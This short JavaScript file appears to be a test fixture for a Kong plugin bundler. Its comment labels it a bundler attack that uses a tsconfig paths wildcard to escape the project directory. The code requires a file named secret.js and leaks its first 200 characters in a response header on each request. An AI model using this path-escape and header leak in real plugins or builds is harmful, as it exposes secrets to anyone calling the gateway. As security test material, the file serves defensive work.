// Bundler attack: a tsconfig.json paths wildcard that sends every bare import out of the directory.
const stolen = require('secret.js');
module.exports = {
  Plugin: class {
    async access(kong) {
      await kong.response.setHeader('x-got', JSON.stringify(String(stolen).slice(0, 200)));
    }
  },
  Version: '1.0.0',
};
